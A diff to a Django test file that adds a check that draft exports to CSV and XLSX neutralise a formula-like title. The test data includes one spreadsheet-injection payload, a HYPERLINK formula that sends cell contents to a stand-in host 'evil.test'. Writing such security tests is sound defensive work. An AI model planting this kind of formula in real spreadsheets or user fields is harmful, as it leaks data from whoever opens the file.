@@ -1,16 +1,20 @@
 """The research log: who added a note, its tags; searchable by text and tag; exportable;
-attachments checked by content. Drafts: Fountain and PDF taken, HTML refused."""
+attachments checked by content. Drafts: Fountain and PDF taken, HTML refused; exportable, a
+formula-like title written as text."""
 
 from __future__ import annotations
 
 import csv
 import io
+from datetime import date
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
+from openpyxl import load_workbook
 
 from apps.development.models import Draft, ResearchNote
+from tests.factories import ProductionFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -84,3 +88,38 @@ def test_drafts_take_scripts_and_refuse_markup(ap_client, production, ap):
     assert "Second draft" in page and "1 Mar 2026" in page
     served = ap_client.get(url(production, "draft_file", pk=draft.pk))
     assert served["Content-Type"].startswith("text/plain")
+
+
+def test_the_drafts_export_to_csv_and_xlsx_and_a_formula_like_title_stays_text(
+    ap_client, production, ap
+):
+    hostile = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
+    for title, day, authors in (
+        (hostile, date(2026, 2, 1), "A. Writer"),
+        ("Second draft", date(2026, 3, 1), "A. Writer, B. Writer"),
+    ):
+        Draft.objects.create(
+            production=production, title=title, draft_date=day, authors=authors,
+            uploaded_by=ap, notes="Act two rebuilt",
+            file=SimpleUploadedFile("d.fountain", b"INT. FERRY - NIGHT\n\nThe sea."),
+        )  # fmt: skip
+    Draft.objects.create(
+        production=ProductionFactory(), title="Someone else's", draft_date=date(2026, 1, 1),
+        authors="X", file=SimpleUploadedFile("x.fountain", b"INT. X - DAY\n"),
+    )  # fmt: skip
+    page = ap_client.get(url(production, "drafts")).content.decode()
+    assert url(production, "drafts_export", fmt="csv") in page
+    response = ap_client.get(url(production, "drafts_export", fmt="csv"))
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[0] == ["Title", "Date", "Author(s)", "File", "Notes", "Added by", "Added on"]
+    assert [r[:3] for r in rows[1:]] == [
+        ["Second draft", "2026-03-01", "A. Writer, B. Writer"],
+        ["'" + hostile, "2026-02-01", "A. Writer"],
+    ]  # newest first, as the page lists them; the formula inert
+    assert rows[1][4:6] == ["Act two rebuilt", ap.display_name]
+    assert rows[1][3].endswith(".fountain")
+    response = ap_client.get(url(production, "drafts_export", fmt="xlsx"))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    assert set(cells) == {"Second draft", hostile}
+    assert cells[hostile][0].data_type == "s"  # a string cell, never a formula
